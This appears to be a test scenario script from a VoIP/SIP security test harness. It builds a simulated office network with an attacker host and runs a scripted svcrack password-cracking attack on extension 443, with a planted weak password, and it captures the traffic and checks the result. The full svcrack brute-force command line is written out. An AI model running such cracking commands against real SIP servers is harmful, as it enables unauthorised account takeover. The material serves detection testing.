# From inside svcrack tries words as passwords of one account of a server that challenges everyone; the last is right.
relocate example.net 5060 10.171.20 198.18.52
EXTENSIONS=(441 442 443 444 445 446)
EXISTING='^4[4-5][0-9]$'
WEAK=443
WEAK_PASSWORD=winter12
open_office -A WITH_HARDENED
add_attacker cracker 10.171.20.133
start_office_capture
keep_alive 9
office_day 405 58
words | grep -v "^$WEAK_PASSWORD\$" | sed -n '30,86p' >"$scratch/words"
echo "$WEAK_PASSWORD" >>"$scratch/words"
at 14 attack A1 password_cracking cracker 5074 "From inside svcrack tries 58 words as passwords of 443, three a second; the last is right." \
    "$(version_of svcrack)" svcrack -b 10.171.20.133 -x 10.171.20.133 -P 5074 -t 0.32 -u "$WEAK" -d "$scratch/words" 10.171.20.1
play
wait_for A1
close_office
expect_said A1 "$WEAK_PASSWORD"
